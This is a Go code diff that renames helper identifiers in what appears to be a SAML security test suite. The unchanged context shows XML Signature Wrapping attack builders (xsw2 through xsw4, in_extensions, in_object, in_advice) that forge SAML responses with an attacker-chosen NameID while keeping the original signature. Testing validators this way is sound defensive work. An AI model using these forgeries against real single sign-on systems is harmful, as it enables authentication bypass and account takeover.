@@ -109,7 +109,7 @@ func wrapping() []Attack {
 			forged.CreateAttr("ID", "forged")
 			forged.FindElement("./Assertion/Subject/NameID").SetText(evil)
 			object(forged.FindElement("./Signature"), unsigned(original))
-			return Text(forged)
+			return textOf(forged)
 		})},
 		{"xsw2", "wrapping", wrapResponse(func(original *etree.Element) string {
 			forged := unsigned(original)
@@ -117,7 +117,7 @@ func wrapping() []Attack {
 			forged.FindElement("./Assertion/Subject/NameID").SetText(evil)
 			forged.AddChild(unsigned(original))
 			forged.AddChild(original.FindElement("./Signature").Copy())
-			return Text(forged)
+			return textOf(forged)
 		})},
 		{"xsw3", "assertions", wrap(func(response, signed, forged *etree.Element) { response.InsertChildAt(signed.Index(), forged) })},
 		{"xsw4", "wrapping", wrap(func(response, signed, forged *etree.Element) {
@@ -160,9 +160,9 @@ func wrapping() []Attack {
 			second.CreateAttr("ID", "second")
 			second.RemoveChild(second.FindElement("./Assertion"))
 			original.AddChild(second)
-			return Text(original)
+			return textOf(original)
 		})},
-		{"in_extensions", "wrapping", inside("samlp:Extensions", ProtocolSpace)},
+		{"in_extensions", "wrapping", inside("samlp:Extensions", protocolSpace)},
 		{"in_object", "wrapping", inside("ds:Object", signatureSpace)},
 		{"in_advice", "wrapping", wrap(func(_, signed, forged *etree.Element) {
 			signed.CreateElement("saml:Advice").AddChild(forged)
@@ -292,5 +292,6 @@ func documents() []Attack {
 }
 
 func nested(depth int) string {
-	return `<samlp:Response xmlns:samlp="` + ProtocolSpace + `">` + strings.Repeat("<a>", depth) + strings.Repeat("</a>", depth) + `</samlp:Response>`
+	return `<samlp:Response xmlns:samlp="` + protocolSpace + `">` + strings.Repeat("<a>", depth) + strings.Repeat("</a>", depth) +
+		`</samlp:Response>`
 }
